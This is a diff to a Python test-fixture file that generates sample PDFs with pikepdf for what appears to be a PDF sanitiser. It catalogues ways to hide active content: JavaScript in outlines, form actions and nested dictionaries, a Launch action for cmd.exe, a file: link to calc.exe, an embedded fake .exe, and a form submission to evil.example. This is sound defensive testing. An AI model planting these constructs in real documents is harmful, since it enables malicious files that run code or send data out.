@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import zipfile
 
+import pikepdf
 from PIL import Image
 from PIL.PngImagePlugin import PngInfo
 from pypdf import PdfWriter
@@ -82,3 +83,134 @@ def pdf_of_size(size: int) -> bytes:
             return data
         padding += size - len(data)
     raise AssertionError(f"could not make a PDF of {size} bytes")
+
+
+def _pikepdf_bytes(build) -> bytes:
+    """A one-page PDF that ``build(pdf, page)`` adds something to."""
+    doc = pikepdf.new()
+    doc.add_blank_page(page_size=(595, 842))
+    build(doc, doc.pages[0])
+    buf = io.BytesIO()
+    doc.save(buf)
+    return buf.getvalue()
+
+
+def _js(code: str = "app.alert(1)") -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))
+
+
+def _outline_js(doc, page):
+    item = doc.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("第一章"), A=_js()))
+    doc.Root.Outlines = doc.make_indirect(
+        pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1)
+    )
+
+
+def _field_aa_js(doc, page):
+    field = doc.make_indirect(
+        pikepdf.Dictionary(
+            FT=pikepdf.Name.Tx,
+            T=pikepdf.String("name"),
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Widget,
+            Rect=[100, 100, 300, 130],
+            AA=pikepdf.Dictionary(K=_js("event.value = 1")),  # keystroke action
+        )
+    )
+    page.Annots = doc.make_indirect(pikepdf.Array([field]))
+    doc.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
+
+
+def _xfa(doc, page):
+    packet = doc.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
+    doc.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=packet)
+
+
+def _link(uri: str):
+    def build(doc, page):
+        link = pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Link,
+            Rect=[100, 100, 300, 130],
+            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri)),
+        )
+        page.Annots = doc.make_indirect(pikepdf.Array([doc.make_indirect(link)]))
+
+    return build
+
+
+def _launch(doc, page):
+    page.AA = pikepdf.Dictionary(
+        O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
+    )
+
+
+def _embedded_file(doc, page):
+    data = doc.make_stream(b"MZ not really an exe")
+    data.Type = pikepdf.Name.EmbeddedFile
+    spec = pikepdf.Dictionary(
+        Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=pikepdf.Dictionary(F=data)
+    )
+    doc.Root.Names = pikepdf.Dictionary(
+        EmbeddedFiles=pikepdf.Dictionary(Names=[pikepdf.String("a.exe"), spec])
+    )
+
+
+def _names_js(doc, page):
+    doc.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), doc.make_indirect(_js())])
+    )
+
+
+def _nested_deep_js(doc, page):
+    # a script several direct dictionaries down an object nobody looks at
+    holder = pikepdf.Dictionary(Inner=pikepdf.Dictionary(More=pikepdf.Array([_js()])))
+    doc.Root.PieceInfo = pikepdf.Dictionary(Private=holder)
+
+
+def _submit_form(doc, page):
+    page.AA = pikepdf.Dictionary(
+        C=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example"))
+    )
+
+
+# each way of hiding something that runs or carries a file in a PDF, by where it hides
+ACTIVE_PDFS = {
+    "javascript in an outline entry": _outline_js,
+    "javascript in a form field's additional actions": _field_aa_js,
+    "an XFA packet": _xfa,
+    "a javascript: link": _link("javascript:app.alert(1)"),
+    "a file: link": _link("file:///C:/Windows/System32/calc.exe"),
+    "a launch action on a page": _launch,
+    "an embedded file": _embedded_file,
+    "document-level javascript in the names tree": _names_js,
+    "javascript nested deep in a private dictionary": _nested_deep_js,
+    "a form submission when the page closes": _submit_form,
+}
+
+# ordinary PDFs that must still pass: a web link, an outline, a plain form field
+BENIGN_PDFS = {
+    "an https link": _link("https://zwfw.example.gov.cn/"),
+    "an outline with a page destination": lambda doc, page: setattr(
+        doc.Root,
+        "Outlines",
+        doc.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, Count=0)),
+    ),
+    "a plain form field": lambda doc, page: setattr(
+        doc.Root,
+        "AcroForm",
+        pikepdf.Dictionary(
+            Fields=[
+                doc.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("x")))
+            ]
+        ),
+    ),
+}
+
+
+def active_pdf(kind: str) -> bytes:
+    return _pikepdf_bytes(ACTIVE_PDFS[kind])
+
+
+def benign_pdf(kind: str) -> bytes:
+    return _pikepdf_bytes(BENIGN_PDFS[kind])
